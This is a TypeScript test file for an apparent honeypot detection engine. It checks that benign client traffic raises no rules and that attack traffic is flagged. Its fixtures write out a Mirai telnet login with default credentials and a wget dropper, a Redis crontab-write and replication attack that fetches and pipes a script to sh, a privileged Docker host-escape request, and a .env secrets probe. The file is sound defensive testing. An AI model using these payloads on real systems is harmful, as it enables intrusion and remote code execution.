/** From the bytes of real clients and of bots, through the traps' machines, to the verdict. */
import { expect, test } from 'vitest';
import { isHostile, judgeObservation } from '#enforcer/detect/judge.ts';
import { protocolOf } from '#enforcer/traps/protocols/registry.ts';
import { at } from '#test/support/detect-corpus.ts';
import { CONVERSATIONS } from '#test/support/real-client-bytes.ts';
import { contextOf, personaOf, talk } from '#test/support/trap-talk.ts';

/** What is found in what was said at `port`, each rule once, in the order said. */
function foundAt(port: number, parts: readonly (string | Uint8Array)[]): readonly string[] {
  const protocol = protocolOf(port);
  if (protocol === undefined) throw new Error(`nobody is at ${port}`);
  const { seen, machine } = talk(protocol.create, contextOf(port), parts);
  return [...new Set(seen.flatMap(observation => judgeObservation(observation, at(machine.protocol, port)).map(({ rule }) => rule)))];
}

test.each([
  ['mysql', 3306, ['password-guess']],
  ['postgresql', 5432, ['password-guess']],
  ['mssql', 1433, ['password-guess']],
  ['mongodb', 27017, ['password-guess']],
  ['smb', 445, ['password-guess']],
  ['ldap', 389, ['password-guess']],
  ['vnc', 5900, ['password-guess']],
  ['rdp', 3389, ['nmap', 'password-guess']],
] as const)('a log-in by a real client of %s is a guess and nothing else', (name, port, rules) => {
  expect(
    foundAt(
      port,
      (CONVERSATIONS[name] ?? []).map(part => Buffer.from(part, 'hex')),
    ),
  ).toEqual(rules);
});

test.each([
  ['redis-cli asks how it is', 6379, ['*2\r\n$7\r\nCOMMAND\r\n$4\r\nDOCS\r\n', '*1\r\n$4\r\nPING\r\n', '*1\r\n$4\r\nINFO\r\n']],
  ['an exporter reads the settings', 6379, ['*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$1\r\n*\r\n']],
  ['a monitor greets the mail server', 25, ['EHLO monitor.example.org\r\n', 'NOOP\r\n', 'QUIT\r\n']],
  ['a browser reads anonymous FTP', 21, ['USER anonymous\r\n', 'PASS mozilla@example.com\r\n', 'SYST\r\n', 'FEAT\r\n', 'PWD\r\n', 'QUIT\r\n']],
  ['a memcached exporter', 11211, ['stats\r\n', 'stats settings\r\n', 'version\r\n']],
  ['curl', 80, ['GET / HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n']],
  ['an HTTP/1.0 health check', 8080, ['HEAD /healthz HTTP/1.0\r\n\r\n']],
  ['docker ps', 2375, ['GET /v1.45/containers/json HTTP/1.1\r\nHost: 192.0.2.10:2375\r\nUser-Agent: Docker-Client/26.1.3 (linux)\r\n\r\n']],
  ['adb devices', 5555, ['CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00']],
] as const)('%s: nothing', (_name, port, parts) => {
  expect(foundAt(port, parts)).toEqual([]);
});

test('Mirai at a telnet port: the list, the shell, the dropper', () => {
  const { weakLogin } = personaOf(1);
  const found = foundAt(23, [
    '\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27',
    'root\r\n',
    'xc3511\r\n',
    `${weakLogin.user}\r\n`,
    `${weakLogin.secret}\r\n`,
    'enable\r\n',
    '/bin/busybox ECCHI\r\n',
    'cd /tmp; /bin/busybox wget http://203.0.113.9/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n',
  ]);
  expect(found).toEqual(expect.arrayContaining(['password-guess', 'default-credentials', 'shell-command', 'bot-check', 'download']));
});

test('a log-in form at a web port: a guess, also when the secret is the factory’s', () => {
  const form = (body: string) =>
    `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  expect(foundAt(80, [form('username=alice&password=hunter2')])).toEqual(['password-guess']);
  expect(foundAt(80, [form('username=admin&password=admin')])).toEqual(['password-guess', 'default-credentials']);
});

test('redis is told to write a crontab: each step by its name', () => {
  const command = (...words: readonly string[]) => `*${words.length}\r\n${words.map(word => `$${word.length}\r\n${word}\r\n`).join('')}`;
  const found = foundAt(6379, [
    command('SET', 'x', '\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n'),
    command('CONFIG', 'SET', 'dir', '/var/spool/cron/'),
    command('CONFIG', 'SET', 'dbfilename', 'root'),
    command('SLAVEOF', '203.0.113.9', '21000'),
  ]);
  expect(found).toEqual(expect.arrayContaining(['cron-write', 'download', 'redis-config-write', 'redis-replication', 'redis-replication-file']));
});

test('a container with the whole host in it', () => {
  const body = '{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}';
  const found = foundAt(2375, [
    `POST /v1.24/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  ]);
  expect(found).toEqual(expect.arrayContaining(['docker-run', 'container-escape']));
});

test('what is said in clear text at a port of TLS is judged as well', () => {
  const found = foundAt(443, ['GET /.env HTTP/1.1\r\nHost: x\r\n\r\n']);
  expect(found).toEqual(['secrets-probe']);
});

test('what no protocol knows, and says nothing hostile, is not hostile', () => {
  expect(isHostile(judgeObservation({ kind: 'payload', name: 'unknown', content: '\x00\x01\x02hello', bytes: 8 }, at('unknown', 4711)))).toBe(false);
});
